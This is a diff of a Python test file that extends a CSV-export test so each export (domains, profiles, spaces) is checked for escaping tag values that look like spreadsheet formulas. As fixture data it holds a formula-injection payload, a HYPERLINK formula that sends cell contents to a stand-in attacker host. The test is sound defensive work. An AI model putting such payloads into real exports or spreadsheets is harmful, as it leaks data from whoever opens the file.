@@ -154,11 +154,24 @@ def test_totals_over_ragged_windows_equal_the_daily_sums(world: dict[str, Any]) 
         assert totals(SpendRollup.objects.all(), window, "domain")[0]["amount"] == expected
 
 
-def test_the_csv_export_writes_a_tag_value_that_looks_like_a_formula_as_text(world: dict[str, Any]) -> None:
-    # Spend tagged with a user-profile ARN the inventory does not know keeps the tag's value, whatever it is.
+@pytest.mark.parametrize(("export", "level"), [("domains", "domain"), ("profiles", "profile"), ("spaces", "space")])
+def test_every_csv_export_writes_a_tag_value_that_looks_like_a_formula_as_text(
+    world: dict[str, Any], export: str, level: str
+) -> None:
+    # Spend tagged with an ARN the inventory does not know keeps the tag's value, whatever it is.
     formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-    spend(world["research"], "-3.25", 1, level="profile", key=formula)
-    response = get(world["finance"], export="profiles")
+    day = TODAY - timedelta(days=1)
+    for period, start in (("day", day), ("month", day.replace(day=1))):
+        SpendRollup.objects.create(
+            payer=world["research"].account,
+            period=period,
+            start=start,
+            level=level,
+            domain_arn=formula if level == "domain" else world["research"].arn,
+            key_arn=formula,
+            amount=Decimal("-3.25"),
+        )
+    response = get(world["finance"], export=export)
     rows = list(csv.reader(io.StringIO(response.content.decode())))
     row = next(r for r in rows if formula in r[2])
     assert row[2] == "'" + formula
